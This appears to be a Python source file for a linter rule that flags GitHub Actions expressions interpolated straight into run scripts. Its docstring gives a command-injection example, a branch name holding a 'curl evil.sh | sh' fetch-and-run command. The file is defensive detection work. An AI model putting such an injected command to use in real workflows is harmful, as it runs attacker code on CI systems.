"""A script holds no expression.

GitHub writes the value into the script before the shell reads it, so a branch called `"; curl evil.sh | sh; "` is a
command. A variable of `env` is data to the shell, whatever it holds. The values that a matrix lists are no strangers'.

Bad:

    jobs:
      check:
        steps:
          - run: uv run --no-sync mlops-spec plan --base ${{ github.event.before }}

Good:

    jobs:
      check:
        steps:
          - run: uv run --no-sync mlops-spec plan --base "${BASE}"
            env:
              BASE: ${{ github.event.before }}

Fix: set it in the step's `env`, and write `"${NAME}"` in the script.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from mlops_spec.document.finding import Finding
from mlops_spec.platforms.github.workflow.expression import EXPRESSION
from mlops_spec.platforms.github.workflow.typed import mapping, text
from mlops_spec.regex import regex

if TYPE_CHECKING:
    from collections.abc import Iterator

    from mlops_spec.document.diagnostic import Severity
    from mlops_spec.platforms.github.workflow.jobs import Job, Workflow

CODE = "MS535"
NAME = "expression-in-script"
SEVERITY: Severity = "error"


def check(workflow: Workflow) -> Iterator[Finding]:
    for job in workflow.jobs.values():
        for step in job.steps:
            script = text(step.inputs.get("script")) if step.uses_action("actions/github-script") else ""
            for place, code in (((*step.address, "run"), step.run), ((*step.address, "with", "script"), script)):
                if match := next((each for each in EXPRESSION.finditer(code) if not _is_known(job, each[1])), None):
                    message = "the value becomes part of the script before the shell reads it"
                    hint = 'set it in `env`, and write `"${NAME}"` here'
                    yield Finding(place, message, hint, piece=match[0].splitlines()[0])


def _is_known(job: Job, expression: str) -> bool:
    """Whether an expression is a value of the job's matrix that stands in the file, and is one word to a shell."""
    named = re.fullmatch(r"\s*matrix\.([\w.-]+)\s*", expression)
    matrix = mapping(mapping(job.data.get("strategy")).get("matrix"))
    lists = [matrix.get(key, []) for key in (named[1].partition(".")[0], "include")] if named else []
    if named is None or not all(isinstance(each, list) for each in lists):
        return False  # one that an expression makes
    name, *path = named[1].split(".")
    values = [*lists[0], *(mapping(each)[name] for each in lists[1] if name in mapping(each))]
    for key in path:
        values = [mapping(each).get(key, "") for each in values]
    return bool(values) and all(_WORD.fullmatch(text(each)) for each in values)


_WORD = regex(r"[\w.-]+")
